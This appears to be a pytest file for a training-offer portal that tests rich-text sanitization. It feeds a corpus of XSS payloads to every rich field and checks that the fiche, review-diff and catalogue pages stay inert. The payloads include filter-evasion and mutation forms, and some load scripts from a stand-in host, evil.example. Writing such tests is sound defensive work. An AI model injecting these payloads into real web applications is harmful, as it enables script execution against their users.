"""Every rich field against a corpus of XSS payloads: what is stored is the safe subset, and no
page that shows it — the fiche, the review page with its diff, the public catalogue — carries
anything a browser would run."""

from __future__ import annotations

import html as html_module
import re
from datetime import date

import lxml.html
import pytest

from portal.extensions import db
from portal.models import ActionStatus
from portal.offer import forms as offer_forms
from portal.offer.forms import ActionForm, FicheForm, RichTextField
from portal.review import decisions
from portal.richtext import sanitize

from .offer_builders import complete_offer

# Classic, filter-evasion and mutation payloads (OWASP XSS filter evasion cheat sheet, PortSwigger
# XSS cheat sheet), each with a visible word so that the field is not emptied by the sanitizer.
PAYLOADS = [
    "<script>alert(1)</script>texte",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>texte",
    "<img src=x onerror=alert(1)>texte",
    "<svg onload=alert(1)>texte</svg>",
    "<svg><script>alert(1)</script>texte</svg>",
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">lien</a>',
    '<a href="  javascript:alert(1)">lien</a>',
    '<a href="jav&#x09;ascript:alert(1)">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="https://ok.example/" onmouseover="alert(1)">lien</a>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">lien</a>',
    '<p onclick="alert(1)">texte</p>',
    "<div style=\"background:url('javascript:alert(1)')\">texte</div>",
    "<iframe src=javascript:alert(1)></iframe>texte",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>texte',
    "<object data=javascript:alert(1)></object>texte",
    "<embed src=javascript:alert(1)>texte",
    "<body onload=alert(1)>texte",
    '<details open ontoggle="alert(1)">texte</details>',
    "<input autofocus onfocus=alert(1)>texte",
    "<video><source onerror=alert(1)></video>texte",
    '<form action="javascript:alert(1)"><button>texte</button></form>',
    '<button formaction="javascript:alert(1)">texte</button>',
    '<base href="javascript:/">texte',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">texte',
    '<link rel="stylesheet" href="https://evil.example/x.css">texte',
    "<style>@import 'https://evil.example/x.css';</style>texte",
    "<scr<script>ipt>alert(1)</script>texte",
    "<<script>alert(1);//<</script>texte",
    '"><script>alert(1)</script>texte',
    "'><img src=x onerror=alert(1)>texte",
    "</textarea><script>alert(1)</script>texte",
    "</trix-editor><img src=x onerror=alert(1)>texte",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">texte</p></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>texte",
    "<template><img src=x onerror=alert(1)></template>texte",
    "<!--<img src=x onerror=alert(1)>-->texte",
    "<![CDATA[<img src=x onerror=alert(1)>]]>texte",
    "&lt;script&gt;alert(1)&lt;/script&gt; texte",
    "{{ 7*7 }} {% raw %}texte",
    '<a href="https://ok.example/">lien <strong>gras</strong></a> <em>texte</em>',
]

# Attributes that hold a URL a browser follows or runs.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background"}
FORBIDDEN_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math", "svg",
    "template",
}  # fmt: skip
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.I)
CONTROL = re.compile(r"[\x00-\x20]+")


def active_content(page: str) -> list[str]:
    """What in ``page`` a browser would run or that escapes the page's own markup."""
    tree = lxml.html.fromstring(page)
    problems = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments, processing instructions
        tag = element.tag.lower()
        if tag == "script":
            src = element.get("src", "")
            if not src.startswith("/static/") or (element.text or "").strip():
                problems.append(f"script {src or (element.text or '')[:60]!r}")
        elif tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        elif tag == "meta" and element.get("http-equiv"):
            problems.append(f"meta http-equiv={element.get('http-equiv')}")
        elif tag == "link" and not element.get("href", "").startswith("/static/"):
            problems.append(f"link {element.get('href')!r}")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                problems.append(f"<{tag} {name}=…>")
            elif name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(CONTROL.sub("", value)):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


def rich_fields() -> list[tuple[type[FicheForm], str]]:
    found = []
    for form_class in vars(offer_forms).values():
        if isinstance(form_class, type) and issubclass(form_class, FicheForm):
            for name, unbound in vars(form_class).items():
                if getattr(unbound, "field_class", None) is RichTextField:
                    found.append((form_class, name))
    return found


def test_the_corpus_reaches_every_rich_field_of_every_fiche():
    fields = rich_fields()
    assert {form_class for form_class, _ in fields} == {ActionForm}, (
        "a fiche other than the action has a rich field: add it to the tests below"
    )
    assert len(fields) == 5


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitizer_leaves_nothing_active(payload):
    cleaned = sanitize(payload) or ""
    assert not active_content(f"<div>{cleaned}</div>"), cleaned
    assert "<script" not in cleaned.lower()
    assert "onerror" not in cleaned.lower() or "&lt;" in cleaned


@pytest.fixture
def offer(app, make_establishment, make_user):
    establishment = make_establishment(name="Centre Atlantique")
    built = complete_offer(establishment, year=2030)
    built["user"] = make_user(establishments=[establishment])
    return built


def _save(client, action, name: str, value: str):
    db.session.refresh(action)
    return client.post(
        f"/actions/{action.id}/champ",
        data={"champ": name, name: value, "version": action.version},
        headers={"HX-Request": "true"},
    )


@pytest.mark.parametrize("name", [name for _, name in rich_fields()])
def test_each_payload_saved_live_is_stored_safe_and_the_fiche_stays_inert(
    client, auth, offer, name
):
    action = offer["action"]
    auth.login(offer["user"])
    for payload in PAYLOADS:
        response = _save(client, action, name, payload)
        assert response.status_code == 200, (payload, response.text)
        assert not active_content(response.text), payload
        db.session.refresh(action)
        stored = getattr(action, name) or ""
        assert not active_content(f"<div>{stored}</div>"), (payload, stored)
        page = client.get(f"/actions/{action.id}")
        assert page.status_code == 200
        problems = active_content(page.text)
        assert not problems, (payload, problems)


def _everything(order: int) -> str:
    payloads = PAYLOADS if order > 0 else list(reversed(PAYLOADS))
    return "".join(f"<p>{payload}</p>" for payload in payloads)


def test_review_diff_and_public_catalogue_stay_inert(app, client, auth, offer, make_user):
    action = offer["action"]
    names = [name for _, name in rich_fields()]
    auth.login(offer["user"])
    for name in names:
        assert _save(client, action, name, _everything(1)).status_code == 200
    # Validated and published: the catalogue shows the fields.
    action.status = ActionStatus.SUBMITTED
    db.session.commit()
    with app.test_request_context():
        decisions.validate(action)
        db.session.commit()
    detail = client.get(
        f"/catalogue/formations/{offer['formation'].id}-{action.id}", follow_redirects=True
    )
    assert detail.status_code == 200
    assert "texte" in detail.text
    assert not active_content(detail.text)
    # Changed and sent again: the review page shows the field-by-field diff.
    for name in names:
        assert _save(client, action, name, _everything(-1)).status_code == 200
    # A Region programme: the Region's prior agreement comes first.
    assert (
        _save(client, action, "region_agreement_date", date.today().isoformat()).status_code == 200
    )
    assert _save(client, action, "region_agreement_ref", "REG-2026-001").status_code == 200
    assert client.post(f"/actions/{action.id}/envoyer").status_code == 302
    db.session.refresh(action)
    assert action.status == ActionStatus.SUBMITTED
    auth.logout()
    auth.login(make_user(role="carif"))
    review = client.get(f"/validation/actions/{action.id}")
    assert review.status_code == 200
    assert html_module.escape("lien") in review.text
    assert not active_content(review.text)


def test_the_checker_itself_finds_active_content():
    """The inertness check must be able to fail."""
    assert active_content('<div><img src=x onerror="alert(1)"></div>')
    assert active_content('<div><a href=" java\tscript:alert(1)">x</a></div>')
    assert active_content("<div><script>alert(1)</script></div>")
    assert active_content('<div><p style="color:red">x</p></div>')
    assert not active_content('<div><a href="https://ok.example/">x</a></div>')
